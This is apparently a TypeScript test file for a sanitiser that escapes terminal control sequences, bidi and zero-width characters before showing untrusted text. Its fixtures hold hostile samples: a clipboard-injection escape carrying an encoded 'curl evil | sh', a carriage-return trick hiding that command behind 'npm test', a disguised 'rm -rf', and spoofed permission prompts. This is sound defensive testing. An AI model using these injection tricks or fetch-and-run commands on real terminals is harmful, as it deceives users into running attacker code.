import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { attributedLines, neutralize, neutralizeLine, neutralizeOutput } from '../../protocol/terminal-text.js';

// Anything a terminal could act on: C0 but \t \n, DEL, C1, bidi, zero-width, tags.
const ACTIVE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\u2060\ufeff]|\udb40[\udc00-\udc7f]/;

const families: Record<string, [string, string]> = {
  'CSI erase screen': ['\x1b[2J\x1b[HAllow? (y/n)', '\\x1b[2J\\x1b[HAllow? (y/n)'],
  'CSI cursor up and erase line': ['a\x1b[1A\x1b[2Kb', 'a\\x1b[1A\\x1b[2Kb'],
  'CSI concealed text': ['\x1b[8mhidden', '\\x1b[8mhidden'],
  'OSC title ended by BEL': ['\x1b]0;pwned\x07x', '\\x1b]0;pwned\\x07x'],
  'OSC title ended by ST': ['\x1b]2;pwned\x1b\\x', '\\x1b]2;pwned\\x1b\\x'],
  'OSC 52 clipboard': ['\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07', '\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07'],
  'OSC 8 hyperlink': ['\x1b]8;;https://evil\x1b\\npm test\x1b]8;;\x1b\\', '\\x1b]8;;https://evil\\x1b\\npm test\\x1b]8;;\\x1b\\'],
  'OSC ended by another ESC': ['\x1b]0;t\x1b[2J', '\\x1b]0;t\\x1b[2J'],
  'DCS (tmux passthrough)': ['\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\', '\\x1bPtmux;\\x1b\\x1b]52;c;eA==\\x07\\x1b\\'],
  'APC (kitty graphics)': ['\x1b_Gf=100;AAAA\x1b\\', '\\x1b_Gf=100;AAAA\\x1b\\'],
  'PM': ['\x1b^private\x1b\\', '\\x1b^private\\x1b\\'],
  'SOS': ['\x1bXstring\x1b\\', '\\x1bXstring\\x1b\\'],
  '8-bit C1 CSI and OSC (UTF-8 forms)': ['\u009b2J\u009d0;t\u009c', '\\x9b2J\\x9d0;t\\x9c'],
  'carriage return overwrite': ['curl evil | sh\r$ npm test', 'curl evil | sh\\x0d$ npm test'],
  'backspace, bell, DEL, NUL': ['a\bb\x07c\x7fd\x00', 'a\\x08b\\x07c\\x7fd\\x00'],
  'bidi override and isolates': ['rm \u202e-rf\u202c \u2066x\u2069', 'rm \\u202e-rf\\u202c \\u2066x\\u2069'],
  'zero-width characters': ['np\u200bm\u200c\u200d\u2060\ufeff', 'np\\u200bm\\u200c\\u200d\\u2060\\ufeff'],
  'tag characters': ['a\u{e0041}b', 'a\\u{e0041}b'],
  'lone surrogate': ['a\ud800b', 'a\\ud800b'],
};

for (const [name, [input, expected]] of Object.entries(families)) {
  test(`neutralize shows ${name} visibly and leaves nothing a terminal acts on`, () => {
    assert.is(neutralize(input), expected);
    assert.not.match(neutralize(input), ACTIVE);
    assert.not.match(neutralizeOutput(input), ACTIVE);
  });
}

test('neutralize keeps newlines, tabs and ordinary Unicode as they are', () => {
  const s = 'line one\n\tindented — café 日本語 🙂\n';
  assert.is(neutralize(s), s);
});

test('neutralizeLine shows newlines and tabs too', () => {
  assert.is(neutralizeLine('a\nb\tc\x1b'), 'a\\x0ab\\x09c\\x1b');
});

test('neutralizeOutput re-emits whitelisted colours and resets at the end', () => {
  assert.is(neutralizeOutput('\x1b[31mred\x1b[0m ok'), '\x1b[31mred\x1b[0m ok\x1b[0m');
  assert.is(neutralizeOutput('\x1b[1;38;5;208mx\x1b[m'), '\x1b[1;38;5;208mx\x1b[0m\x1b[0m');
  assert.is(neutralizeOutput('\x1b[48;2;1;2;3mx'), '\x1b[48;2;1;2;3mx\x1b[0m');
  assert.is(neutralizeOutput('\x1b[;32mx'), '\x1b[0;32mx\x1b[0m');
});

test('neutralizeOutput refuses SGR outside the whitelist and every other sequence', () => {
  assert.is(neutralizeOutput('\x1b[8mhidden'), '\\x1b[8mhidden');
  assert.is(neutralizeOutput('\x1b[31;8mhidden'), '\\x1b[31;8mhidden');
  assert.is(neutralizeOutput('\x1b[5m'), '\\x1b[5m');
  assert.is(neutralizeOutput('\x1b[38;5;999m'), '\\x1b[38;5;999m');
  assert.is(neutralizeOutput('\x1b[38;2;1;2m'), '\\x1b[38;2;1;2m');
  assert.is(neutralizeOutput('\x1b[2J\x1b]0;t\x07'), '\\x1b[2J\\x1b]0;t\\x07');
});

test('neutralizeOutput treats CRLF as a line end and a lone CR as a control', () => {
  assert.is(neutralizeOutput('a\r\nb\rc'), 'a\nb\\x0dc');
  assert.is(neutralizeOutput('plain output\n'), 'plain output\n');
});

test('attributedLines prefixes every line so none can pass for the product', () => {
  assert.equal(attributedLines('eng> ', 'hi\nAllow? (y/n)\r\n\x1b[2Jx\n'), ['eng> hi', 'eng> Allow? (y/n)', 'eng> \\x1b[2Jx']);
  assert.equal(attributedLines('│ ', '\x1b[32mok\x1b[0m', { output: true }), ['│ \x1b[32mok\x1b[0m\x1b[0m']);
  assert.equal(attributedLines('> ', ''), ['> ']);
});

test('every UTF-16 code unit the module lists as unsafe is escaped, and every other one is kept', () => {
  // The list of terminal-text.ts, written out again: its quick pre-check must not let any of these through.
  const unsafe = (c: number) => (c <= 0x1f && c !== 0x09 && c !== 0x0a) || (c >= 0x7f && c <= 0x9f) || c === 0xad
    || c === 0x061c || c === 0x180e || (c >= 0x200b && c <= 0x200f) || (c >= 0x2028 && c <= 0x202e)
    || (c >= 0x2060 && c <= 0x206f) || c === 0xfeff || (c >= 0xfff9 && c <= 0xfffb) || (c >= 0xd800 && c <= 0xdfff);
  for (let c = 0; c <= 0xffff; c++) {
    const ch = String.fromCharCode(c);
    const s = `ab${ch}cd`;
    for (const [name, fn] of [['neutralize', neutralize], ['neutralizeOutput', neutralizeOutput]] as const) {
      const out = fn(s);
      if (unsafe(c)) assert.ok(!out.includes(ch) && out.startsWith('ab\\') && out.endsWith('cd'), `${name} kept U+${c.toString(16)}`);
      else assert.is(out, s, `${name} changed U+${c.toString(16)}`);
    }
  }
  // A lone surrogate at either end of the text, and tag characters (a pair): escaped; other pairs kept.
  for (const s of ['\ud83d', '\ude42', 'x\ud83d', '\ude42x', '\u{e0041}', 'a\u{e007f}']) assert.not.ok(/[\ud800-\udfff]/.test(neutralizeOutput(s)), s);
  assert.is(neutralizeOutput('🙂\u{1f600}'), '🙂\u{1f600}');
});

test('no byte sequence survives neutralisation as something a terminal acts on', () => {
  let seed = 7;
  const rnd = () => (seed = (seed * 1103515245 + 12345) >>> 0) / 2 ** 32;
  const alphabet = ['\x1b', '[', ']', 'P', '_', '^', 'X', '\\', '\x07', '\r', '\n', '2', 'J', ';', 'm', '\x9b', '\u202e', '\u200b', 'a', '\ud800', '\udc00'];
  for (let i = 0; i < 2000; i++) {
    let s = '';
    for (let j = 0; j < 24; j++) s += alphabet[Math.floor(rnd() * alphabet.length)];
    for (const out of [neutralize(s), neutralizeOutput(s), neutralizeLine(s)]) {
      // The only ESC left is the start of a re-emitted whitelisted SGR.
      const stripped = out.replace(/\x1b\[[0-9;]*m/g, '');
      assert.not.match(stripped, ACTIVE, JSON.stringify(s));
    }
  }
});

test.run();
